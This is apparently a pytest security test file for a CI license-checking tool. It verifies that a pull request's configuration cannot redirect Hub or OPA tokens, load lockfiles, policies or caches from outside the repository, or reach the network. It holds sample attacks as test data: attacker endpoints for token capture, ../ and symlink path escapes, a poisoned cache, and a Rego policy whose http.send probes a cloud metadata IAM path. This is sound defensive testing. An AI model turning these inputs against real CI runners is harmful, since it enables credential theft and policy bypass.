"""The repository under review cannot redirect secrets or reach outside itself (issue 11 §4).

`.aiospo.yaml`, `aiospo.lock` and the policy folders are written by the pull request's author.
Each test plays that author against a real checkout (a git repository with the files and
symlinks committed) and real local servers: an attacker's Hub and OPA server record whatever
reaches them. The settings below may come from the repository only where the workflow agrees:

- tokens go only to endpoints the operator chose (`hub.endpoint`, `opa_url`);
- `hub.lockfile`, `hub.cache_dir` and `policy_dirs` resolve inside the repository (symlinks
  resolved), and the Hub cache cannot live where the scan reads or the repository commits.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.robustness.harness import CLEAN_PY, DENIED_PY, QUIET_CONFIG, git_repo, write_tree
from tests.support.hub_server import HubServer
from tests.support.opa_reference import require_opa_bindings
from tests.support.opa_server import FakeOpaServer

HF_TOKEN = "hf_workflowOnlyCanary8Qx2"
OPA_TOKEN = "opa-workflowOnlyCanary-4Kd9"


@pytest.fixture
def evil_hub():
    """The attacker's Hub: answers like the real one and records every request."""
    server = HubServer().start()
    try:
        yield server
    finally:
        server.stop()


def authorizations(server) -> set[str | None]:
    return {r.headers.get("authorization") for r in server.requests}


def repo_with(tmp_path: Path, config: str, files: dict | None = None, symlinks: dict | None = None) -> Path:
    return git_repo(tmp_path / "pr", {"src/app.py": CLEAN_PY, ".aiospo.yaml": QUIET_CONFIG + config, **(files or {})}, symlinks)


# -- tokens go only to the endpoints the operator chose -------------------------------------


def test_hub_endpoint_from_the_repository_never_receives_the_token(cli, tmp_path, hub_server, evil_hub):
    root = repo_with(tmp_path, f"hub:\n  endpoint: {evil_hub.url}\n")
    run = cli("check", str(root), "--engine", "embedded", env={"HF_TOKEN": HF_TOKEN})
    assert run.rc == 2, run
    assert "hub.endpoint" in run.stderr and evil_hub.url in run.stderr, run
    assert evil_hub.requests == []
    assert HF_TOKEN not in run.stdout + run.stderr


def test_a_token_stored_by_hf_auth_login_counts_as_a_token(cli, tmp_path, evil_hub):
    """huggingface_hub sends the token saved by `hf auth login` unless told not to."""
    token_file = cli.home / "hf-home" / "token"
    token_file.parent.mkdir(parents=True)
    token_file.write_text(HF_TOKEN, encoding="utf-8")
    root = repo_with(tmp_path, f"hub:\n  endpoint: {evil_hub.url}\n")
    run = cli("check", str(root), "--engine", "embedded")
    assert run.rc == 2, run
    assert "hub.endpoint" in run.stderr, run
    assert evil_hub.requests == []


def test_hub_endpoint_from_the_repository_is_used_without_a_token(cli, tmp_path, evil_hub):
    root = repo_with(tmp_path, f"hub:\n  endpoint: {evil_hub.url}\n")
    run = cli("check", str(root), "--engine", "embedded")
    assert run.rc == 0, run
    assert evil_hub.requests and authorizations(evil_hub) == {None}


@pytest.mark.parametrize("how", ["HF_ENDPOINT", "--hub-endpoint"])
def test_hub_endpoint_the_workflow_also_gives_receives_the_token(cli, tmp_path, hub_server, how):
    root = repo_with(tmp_path, f"hub:\n  endpoint: {hub_server.url}/\n")  # the same URL, written differently
    args, env = (["--hub-endpoint", hub_server.url], {}) if how == "--hub-endpoint" else ([], {"HF_ENDPOINT": hub_server.url})
    run = cli("check", str(root), "--engine", "embedded", *args, env={"HF_TOKEN": HF_TOKEN, **env})
    assert run.rc == 0, run
    assert authorizations(hub_server) == {f"Bearer {HF_TOKEN}"}


def test_the_workflows_endpoint_wins_over_the_repositorys(cli, tmp_path, hub_server, evil_hub):
    root = repo_with(tmp_path, f"hub:\n  endpoint: {evil_hub.url}\n")
    run = cli("check", str(root), "--engine", "embedded", "--hub-endpoint", hub_server.url, env={"HF_TOKEN": HF_TOKEN})
    assert run.rc == 0, run
    assert evil_hub.requests == []
    assert authorizations(hub_server) == {f"Bearer {HF_TOKEN}"}


def test_opa_url_from_the_repository_never_receives_the_token(cli, tmp_path, hub_server):
    with FakeOpaServer() as evil_opa:
        root = repo_with(tmp_path, f"opa_url: {evil_opa.url}\n")
        run = cli("check", str(root), "--hub-endpoint", hub_server.url, env={"OPA_TOKEN": OPA_TOKEN})
        assert run.rc == 2, run
        assert "opa_url" in run.stderr and evil_opa.url in run.stderr, run
        assert evil_opa.requests == []


def test_opa_url_the_workflow_also_gives_receives_the_token(cli, tmp_path, hub_server):
    with FakeOpaServer() as opa:
        opa.state.token = OPA_TOKEN
        root = repo_with(tmp_path, f"opa_url: {opa.url}\n")
        run = cli("check", str(root), "--opa-url", opa.url, "--hub-endpoint", hub_server.url, env={"OPA_TOKEN": OPA_TOKEN})
        assert run.rc == 0, run
        assert {r.headers.get("Authorization") for r in opa.requests if r.path.startswith("/v1")} == {f"Bearer {OPA_TOKEN}"}


@pytest.mark.parametrize("ci", ["CI", "GITHUB_ACTIONS"])
def test_in_ci_a_hub_the_repository_names_is_not_asked(cli, tmp_path, evil_hub, ci):
    """The attacker's Hub would answer a permissive license for the denied model: in CI the
    repository cannot choose where the facts come from, token or not."""
    root = repo_with(tmp_path, f"hub:\n  endpoint: {evil_hub.url}\n", {"src/app.py": DENIED_PY})
    run = cli("check", str(root), "--engine", "embedded", env={ci: "true"})
    assert run.rc == 2, run
    assert "hub.endpoint" in run.stderr and "in CI" in run.stderr, run
    assert evil_hub.requests == []


def test_in_ci_an_opa_server_the_repository_names_does_not_decide(cli, tmp_path, hub_server):
    """An OPA server of the pull request's choosing would answer "no findings" for everything,
    config/changed included: in CI it is not asked, token or not."""
    with FakeOpaServer() as evil_opa:
        root = repo_with(tmp_path, f"opa_url: {evil_opa.url}\n", {"src/app.py": DENIED_PY})
        run = cli("check", str(root), "--hub-endpoint", hub_server.url, env={"GITHUB_ACTIONS": "true"})
        assert run.rc == 2, run
        assert "opa_url" in run.stderr and "in CI" in run.stderr, run
        assert evil_opa.requests == []


def test_in_ci_the_servers_the_workflow_also_names_are_used(cli, tmp_path, hub_server):
    with FakeOpaServer() as opa:
        root = repo_with(tmp_path, f"opa_url: {opa.url}\nhub:\n  endpoint: {hub_server.url}\n")
        run = cli("check", str(root), "--opa-url", opa.url, "--hub-endpoint", hub_server.url, env={"CI": "1"})
        assert run.rc == 0, run
        assert any(r.method == "POST" for r in opa.requests) and hub_server.requests


def test_opa_url_from_the_repository_is_used_without_a_token(cli, tmp_path, hub_server):
    with FakeOpaServer() as opa:
        root = repo_with(tmp_path, f"opa_url: {opa.url}\n")
        run = cli("check", str(root), "--hub-endpoint", hub_server.url)
        assert run.rc == 0, run
        assert any(r.method == "POST" for r in opa.requests)
        assert {r.headers.get("Authorization") for r in opa.requests} == {None}


# -- paths resolve inside the repository ---------------------------------------------------


def permissive_lock() -> str:
    """A lockfile that says the denied model is apache-2.0: what an attacker plants outside."""
    from tests.robustness.harness import NLLB_SHA

    entry = {"kind": "model", "id": "facebook/nllb-200-distilled-600M", "revision": NLLB_SHA, "status": "ok",
             "license": "apache-2.0", "revision_kind": "commit", "revision_status": "ok", "resolved_commit": NLLB_SHA,
             "gated": "false", "has_safetensors": True, "has_pickle": False, "card_present": True}
    return json.dumps({"aiospo_lock_version": 1, "comment": "planted", "entries": [entry]})


@pytest.mark.parametrize(
    "config, symlinks, key",
    [
        ("hub:\n  lockfile: ../outside/aiospo.lock\n", {}, "hub.lockfile"),
        ("hub:\n  lockfile: {outside}/aiospo.lock\n", {}, "hub.lockfile"),
        ("", {"aiospo.lock": "../outside/aiospo.lock"}, "aiospo.lock"),
        ("hub:\n  lockfile: locks/aiospo.lock\n", {"locks": "../outside"}, "hub.lockfile"),
    ],
    ids=["dotdot", "absolute", "symlinked-file", "symlinked-folder"],
)
def test_a_lockfile_outside_the_repository_is_refused(cli, tmp_path, config, symlinks, key):
    outside = write_tree(tmp_path / "outside", {"aiospo.lock": permissive_lock()})
    root = repo_with(tmp_path, config.format(outside=outside), {"src/app.py": DENIED_PY}, symlinks)
    run = cli("check", str(root), "--offline", "--engine", "embedded")
    assert run.rc == 2, run
    assert key in run.stderr and "inside" in run.stderr, run


def test_the_planted_lockfile_would_have_passed(cli, tmp_path):
    """Guards the test above: read from inside the repository, the planted facts pass."""
    root = repo_with(tmp_path, "", {"src/app.py": DENIED_PY, "aiospo.lock": permissive_lock()})
    run = cli("check", str(root), "--offline", "--engine", "embedded")
    assert run.rc == 0, run


EVIL_POLICY = """package aiospo.rules.planted

findings contains {"rule": "planted/seen", "severity": "info", "message": "outside policy loaded", "ref": null} if true
"""


@pytest.mark.parametrize(
    "config, symlinks",
    [
        ("policy_dirs: [../outside-policies]\n", {}),
        ("policy_dirs: ['{outside}']\n", {}),
        ("policy_dirs: [policies]\n", {"policies": "../outside-policies"}),
        ("policy_dirs: [policies]\n", {"policies/planted.rego": "../../outside-policies/planted.rego"}),
    ],
    ids=["dotdot", "absolute", "symlinked-folder", "symlinked-file"],
)
def test_policies_outside_the_repository_are_refused(cli, tmp_path, hub_server, config, symlinks):
    outside = write_tree(tmp_path / "outside-policies", {"planted.rego": EVIL_POLICY})
    files = {"policies/house.rego": "package aiospo.rules.house\n\nfindings := set()\n"} if "policies/planted" in str(symlinks) else {}
    root = repo_with(tmp_path, config.format(outside=outside), files, symlinks)
    run = cli("check", str(root), "--engine", "embedded", "--hub-endpoint", hub_server.url)
    assert run.rc == 2, run
    assert "policy_dirs" in run.stderr and "inside" in run.stderr, run
    assert "outside policy loaded" not in run.stdout


def test_policies_inside_the_repository_are_loaded(cli, tmp_path, hub_server):
    root = repo_with(tmp_path, "policy_dirs: [policies]\n", {"policies/planted.rego": EVIL_POLICY})
    run = cli("check", str(root), "--engine", "embedded", "--hub-endpoint", hub_server.url)
    assert run.rc == 0, run
    assert "outside policy loaded" in run.stdout


NO_CACHE_ENV = {"AIOSPO_CACHE_DIR": ""}  # the operator chose no cache folder: the configuration's applies


@pytest.mark.parametrize(
    "config, symlinks",
    [
        ("hub:\n  cache_dir: ../outside-cache\n", {}),
        ("hub:\n  cache_dir: '{outside}'\n", {}),
        ("hub:\n  cache_dir: .hubcache\n", {".hubcache": "../outside-cache"}),
    ],
    ids=["dotdot", "absolute", "symlinked-folder"],
)
def test_a_cache_outside_the_repository_is_refused(cli, tmp_path, hub_server, config, symlinks):
    outside = tmp_path / "outside-cache"
    outside.mkdir()
    root = repo_with(tmp_path, config.format(outside=outside), None, symlinks)
    run = cli("check", str(root), "--engine", "embedded", "--hub-endpoint", hub_server.url, env=NO_CACHE_ENV)
    assert run.rc == 2, run
    assert "hub.cache_dir" in run.stderr and "inside" in run.stderr, run
    assert list(outside.rglob("*")) == []  # nothing was written there


def test_a_cache_in_the_scanned_tree_is_refused(cli, tmp_path, hub_server):
    """`hub.cache_dir: src` would make the source folder the cache (and its files cache files)."""
    root = repo_with(tmp_path, "hub:\n  cache_dir: src\n", {"src/app.py": DENIED_PY})
    run = cli("check", str(root), "--engine", "embedded", "--hub-endpoint", hub_server.url, env=NO_CACHE_ENV)
    assert run.rc == 2, run
    assert "hub.cache_dir" in run.stderr and "src" in run.stderr, run


def test_a_cache_the_pull_request_committed_is_refused(cli, tmp_path, hub_server):
    """Poisoned cache entries committed by the pull request: fresh, well-formed, and lying."""
    from aiospo_ci.hub.cache import FactsCache
    from aiospo_ci.hub.interface import FactsKey
    from aiospo_ci.model import HubFacts
    from tests.robustness.harness import NLLB_SHA

    staging = tmp_path / "staging"
    cache = FactsCache(staging / ".aiospo-cache", hub_server.url, 24)
    key = FactsKey("model", "facebook/nllb-200-distilled-600M", NLLB_SHA)
    cache.put(key, HubFacts(id=key.id, revision=NLLB_SHA, revision_kind="commit", revision_status="ok",
                            resolved_commit=NLLB_SHA, license="apache-2.0", gated="false", has_pickle=False,
                            has_safetensors=True, card_present=True))
    files = {str(p.relative_to(staging)): p.read_bytes() for p in staging.rglob("*.json")}
    root = repo_with(tmp_path, "hub:\n  cache_dir: .aiospo-cache\n", {"src/app.py": DENIED_PY, **files})
    run = cli("check", str(root), "--engine", "embedded", "--hub-endpoint", hub_server.url, env=NO_CACHE_ENV)
    assert run.rc == 2, run
    assert "hub.cache_dir" in run.stderr and "committed" in run.stderr, run


def test_a_cache_folder_the_repository_ignores_is_used_and_not_scanned(cli, tmp_path, hub_server):
    root = repo_with(tmp_path, "hub:\n  cache_dir: .aiospo-cache\n", {".gitignore": ".aiospo-cache/\n"})
    for _ in range(2):
        hub_server.clear()
        run = cli("check", str(root), "--engine", "embedded", "--format", "json", "--hub-endpoint", hub_server.url, env=NO_CACHE_ENV)
        assert run.rc == 0, run
        assert {r["file"] for r in json.loads(run.stdout)["references"]} == {"src/app.py"}
    assert list((root / ".aiospo-cache").rglob("*.json")), "the cache was written where the configuration said"
    assert hub_server.count() == 0, "the second run was answered from the cache"


PROBE = """package aiospo.rules.probe

findings contains {"rule": "probe/read", "severity": "info", "message": sprintf("%v", [answer]), "ref": null} if {
	answer := http.send({"method": "get", "url": "%s/latest/meta-data/iam/", "raise_error": false})
}
"""


def test_a_repository_policy_cannot_reach_the_network(cli, tmp_path, hub_server, evil_hub):
    """OPA runs http.send: a policy the pull request brings could probe the runner's network (a
    cloud metadata endpoint, here a recording server) and print the answer in a finding."""
    require_opa_bindings()
    root = repo_with(tmp_path, "policy_dirs: [policies]\n", {"policies/probe.rego": PROBE.replace("%s", evil_hub.url)})
    with FakeOpaServer(backend="opa-golib") as opa:  # OPA's own evaluator, which performs http.send
        run = cli("check", str(root), "--engine", "opa", "--opa-url", opa.url, "--hub-endpoint", hub_server.url)
    assert run.rc == 2, run
    assert "http.send" in run.stderr and "policy_dirs" in run.stderr, run
    assert evil_hub.requests == []


def test_the_network_probe_would_reach_the_server_from_a_workflow_folder(cli, tmp_path, hub_server, evil_hub):
    """Guards the test above: the same policy, given by the workflow (--policy), runs and reaches out."""
    require_opa_bindings()
    policies = write_tree(tmp_path / "workflow-policies", {"probe.rego": PROBE.replace("%s", evil_hub.url)})
    root = repo_with(tmp_path, "")
    with FakeOpaServer(backend="opa-golib") as opa:
        run = cli("check", str(root), "--engine", "opa", "--opa-url", opa.url, "--hub-endpoint", hub_server.url, "--policy", str(policies))
    assert run.rc == 0, run
    assert evil_hub.count("/latest/meta-data") == 1
